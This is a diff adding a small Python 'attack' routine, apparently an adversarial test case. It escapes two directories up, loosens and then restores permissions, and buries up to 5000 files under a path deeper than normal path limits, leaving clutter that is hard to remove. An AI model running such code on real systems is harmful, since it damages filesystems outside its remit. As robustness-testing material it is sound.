@@ -1,0 +1,22 @@
+"""Leaves 4,000 files deeper than any path reaches, and closes what it has to itself."""
+
+import os
+
+
+def attack():
+    back = os.getcwd()
+    top = os.path.abspath("../..")
+    os.chmod(top, 0o755)
+    os.chdir(top)
+    name = "d" * 250
+    for _ in range(20):
+        os.makedirs(name, exist_ok=True)
+        os.chdir(name)
+    try:
+        for number in range(5000):
+            os.close(os.open(f"{number}", os.O_CREAT))
+    except OSError as error:
+        yield f"open: {error.strerror}"
+    os.unlink("0")  # there is to be room for the log
+    os.chdir(back)
+    os.chmod(top, 0o555)
